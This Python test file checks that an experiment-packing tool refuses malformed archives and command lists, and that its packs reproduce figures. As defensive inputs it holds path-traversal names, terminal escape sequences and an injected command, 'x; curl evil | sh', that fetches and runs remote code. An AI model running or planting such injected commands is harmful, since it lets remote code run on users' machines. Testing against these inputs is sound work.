# SPDX-License-Identifier: Apache-2.0
"""Packs that are odd are refused before a byte is written; one of results draws its figures and is small."""

from __future__ import annotations

import io
import json
import shlex
import tarfile
from collections.abc import Iterator
from pathlib import Path
from random import Random
from typing import Any

import pytest
import zstandard

from howdah.command.main import main
from howdah.pack.archive import PackError
from howdah.pack.pack import pack, unpack
from howdah.record.digest import seal
from howdah.record.directory import RunDirectory, read_json, write_json
from howdah.record.index import drawn
from howdah.record.run import read_record
from tests.unit.pack_factory import RUN, archive, index_of, member
from tests.unit.recorded_run import make_recorded_experiment, recorded_compiler


def _changed(name: str, value: Any) -> bytes:
    return json.dumps({**json.loads(index_of({})), name: value}).encode()


# What is in an index, and what its refusal says.
ODD = {
    "a module of Python's": (index_of({"howdah/__init__.py": b""}), "not a file of an experiment"),
    "settings beside the experiment": (index_of({"ansible.cfg": b""}), "not a file of an experiment"),
    "a program in the experiment": (index_of({"e/sitecustomize.py": b""}), "not a file of an experiment"),
    "a program in a run": (index_of({f"{RUN}/json.py": b""}), "not a file of an experiment"),
    "a program among tables": (index_of({f"{RUN}/tables/json.py": b""}), "not a file of an experiment"),
    "an option": (index_of({f"{RUN}/raw/--help": b""}), "not a file of an experiment"),
    "a hidden file": (index_of({f"{RUN}/raw/.profile": b""}), "not a file of an experiment"),
    "a way up": (index_of({f"{RUN}/raw/../../../a": b""}), "not a file of an experiment"),
    "an escape sequence": (index_of({f"{RUN}/raw/\x1b[2J": b""}), "not a file of an experiment"),
    "text turned around": (index_of({f"{RUN}/raw/\u202egpj": b""}), "not a file of an experiment"),
    "a name in two forms": (index_of({f"{RUN}/raw/e\u0301": b""}), "not a file of an experiment"),
    "a long name": (index_of({f"{RUN}/raw/{'a' * 300}": b""}), "not a file of an experiment"),
    "many directories": (index_of({f"{RUN}/raw/{'a/' * 40}a": b""}), "not a file of an experiment"),
    "a run that is not listed": (index_of({"e/other/run.json": b"{}", "e/other/plan.json": b"{}"}), "is not listed"),
    "a run without a plan": (index_of({"e/other/run.json": b"{}"}, runs=[RUN, "e/other"]), "is not whole"),
    "no experiments": (_changed("experiments", []), "experiments is not a list of names, or empty"),
    "experiments of numbers": (_changed("experiments", [1]), "experiments is not a list of names"),
    "no runs": (_changed("runs", None), "runs is not a list of names"),
    "an experiment without runs": (_changed("experiments", ["e", "f"]), "has no runs"),
    "an experiment twice": (_changed("experiments", ["e", "e"]), "twice"),
    "no files": (_changed("files", [1]), "files is not an object"),
    "a size below zero": (_changed("files", {"a": {"bytes": -1, "sha256": "0" * 64}}), "size or digest"),
    "a size that is true": (_changed("files", {"a": {"bytes": True, "sha256": "0" * 64}}), "size or digest"),
    "a list": (b"[]", "it is not an object"),
    "nothing": (b"", "this is not JSON"),
    "lists in lists": (b"[" * 100_000, "nested too deeply"),
    "a number that is none": (b'{"format": NaN}', "not a JSON number"),
    "more values than text": (b'{"format": 1, "x": [' + b"[]," * 6_000_000 + b"0]}", "more values than its size"),
}


@pytest.mark.parametrize("what", ODD)
def test_a_pack_has_experiments_and_nothing_else(what: str, tmp_path: Path) -> None:
    index, said = ODD[what]
    with pytest.raises(PackError, match=said):
        unpack(archive(tmp_path / "odd.tar.zst", member("x/pack.json", index)), tmp_path / "there")
    assert not (tmp_path / "there").exists()


def test_a_header_is_no_larger_than_a_name_needs(tmp_path: Path) -> None:
    """One that says more of the next member is read whole, before anything is known of the file."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as written:
        first, content = member("x/pack.json", index_of({}))
        first.pax_headers = {"comment": "x" * (1 << 20)}
        written.addfile(first, io.BytesIO(content))
    file = tmp_path / "odd.tar.zst"
    file.write_bytes(zstandard.ZstdCompressor().compress(out.getvalue()))
    with pytest.raises(PackError, match="a header of 1048"):
        unpack(file, tmp_path / "there")


@pytest.fixture
def recorded(tmp_path: Path) -> Iterator[RunDirectory]:
    with recorded_compiler():
        yield make_recorded_experiment(tmp_path / "runs" / "recorded")


def _figure_commands(unpacked: Path) -> list[str]:
    lines = (unpacked / "README.txt").read_text(encoding="utf-8").splitlines()
    return [line.strip() for line in lines if line.startswith("  howdah figure ")]


def test_a_pack_says_which_commands_draw_its_figures_and_they_give_the_same_bytes(
    recorded: RunDirectory, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    file = pack([recorded.path.parent], tmp_path / "whole.howdah.tar.zst").file
    results = pack([recorded.path.parent], tmp_path / "results.howdah.tar.zst", kind="results").file
    unpack(file, tmp_path / "whole")
    unpack(results, tmp_path / "results")
    commands = _figure_commands(tmp_path / "whole")
    names = [command.split()[-1] for command in commands]
    assert {"exit-strip", "start-up", "time-sequence"} <= set(names)
    ours = tmp_path / "ours"
    ours.mkdir()
    monkeypatch.chdir(ours)
    for name in names:
        assert main(["figure", "recorded", "--runs", str(recorded.path.parent.parent), "--figure", name]) == 0
    monkeypatch.chdir(tmp_path / "whole")
    for command in commands:
        assert main(command.split()[1:]) == 0
    drawn = {path.name: path.read_bytes() for path in ours.glob("*.pdf")}
    assert len(drawn) == len(names)
    assert {path.name: path.read_bytes() for path in Path().glob("*.pdf")} == drawn
    # Of results alone, what needs no table.
    monkeypatch.chdir(tmp_path / "results")
    of_results = _figure_commands(Path())
    assert [command.split()[-1] for command in of_results] == [
        name for name in names if name in ("exit-strip", "exits", "difference", "map", "completion", "receivers")
    ]
    assert of_results
    for command in of_results:
        assert main(command.split()[1:]) == 0
    for path in Path().glob("*.pdf"):
        assert path.read_bytes() == drawn[path.name]


def test_a_pack_has_the_commands_that_its_sender_gave(
    recorded: RunDirectory, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With their options, each once and without places of the sender's machine; they give the sender's bytes."""
    ours = tmp_path / "ours"
    ours.mkdir()
    monkeypatch.chdir(ours)
    runs = ["recorded", "--runs", str(recorded.path.parent.parent)]
    own = ["--figure", "start-up", "--width", "86mm", "--format", "svg", "--data", "--output", str(ours / "cwnd.svg")]
    table = ["table", *runs, "--format", "latex", "--output", str(ours / "results.tex")]
    for command in (["figure", *runs, *own], ["figure", *runs, *own], table):
        assert main(command) == 0
    (recorded.path.parent / "keep").write_text("nothing else changes")
    for kind in ("everything", "results"):
        file = pack([recorded.path.parent], tmp_path / f"{kind}.howdah.tar.zst", kind=kind).file
        unpack(file, tmp_path / kind)
        readme = (tmp_path / kind / "README.txt").read_text(encoding="utf-8")
        given = [line.strip() for line in readme.partition("sender drew")[2].splitlines() if "howdah " in line]
        assert [line.split()[1] for line in given] == ["figure", "table"]
        assert str(tmp_path) not in readme
        assert ("those of curves need records" in readme) == (kind == "results")
        assert drawn(tmp_path / kind / "recorded") == given
        monkeypatch.chdir(tmp_path / kind)
        for line in given if kind == "everything" else given[1:]:
            assert main(shlex.split(line)[1:]) == 0
        for path in (ours / "results.tex", *(ours.glob("cwnd.*") if kind == "everything" else ())):
            assert (tmp_path / kind / path.name).read_bytes() == path.read_bytes()


_OTHERS = [
    "howdah figure --runs . x; curl evil | sh",
    "howdah figure --runs . x\u001b[2J",
    "howdah figure --runs /etc x",
    "howdah clean --runs .",
    "howdah figure --runs . 'x",
    "sh -c x",
    "howdah figure --runs . " + "x" * 5000,
]


@pytest.mark.parametrize(
    "text",
    ["", "[]", '{"commands": 3}', "{", "[" * 100_000, *(json.dumps({"commands": [3, each]}) for each in _OTHERS)],
)
def test_a_damaged_list_of_commands_is_none(tmp_path: Path, text: str) -> None:
    (tmp_path / "drawn.json").write_text(text)
    assert drawn(tmp_path) == []


def test_a_figure_of_runs_that_may_not_be_written_is_drawn_all_the_same(
    recorded: RunDirectory, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    (recorded.path.parent / "drawn.json").mkdir()
    name = ["figure", "recorded", "--runs", str(recorded.path.parent.parent), "--figure", "start-up"]
    assert main(name) == 0
    assert (tmp_path / "recorded-start-up.pdf").exists()


MOST_OF_RESULTS_BYTES = 300_000  # of a run


@pytest.mark.parametrize("noise", [False, True], ids=["many flows", "noise"])
def test_results_of_a_run_are_small_at_worst(recorded: RunDirectory, tmp_path: Path, noise: bool) -> None:
    """Of a run with many groups, whose numbers have nothing in common, with a long log and a full page."""
    random = Random(7)
    record = read_record(recorded)
    metrics = read_json(recorded.metrics)
    model = next(row for row in metrics["rows"] if row["flow"] is not None and isinstance(row["value"], float))
    for number in range(2000 if noise else 5000):
        value = random.random() if noise else round(random.random(), 3)
        metrics["rows"].append({**model, "flow": None, "group": f"web-{number}", "value": value})
    write_json(recorded.metrics, metrics)
    lines = [f"[{random.random():.6f}] {random.randbytes(30).hex()}" for _ in range(1000)]
    recorded.log.write_text("\n".join(lines) + "\n", encoding="utf-8")
    seal(recorded, record)
    packed = pack([recorded.path.parent], tmp_path / "worst.howdah.tar.zst", kind="results")
    assert sum(each.bytes for each in packed.index.files.values()) > 500_000, "there is something to make small"
    assert packed.file.stat().st_size <= MOST_OF_RESULTS_BYTES
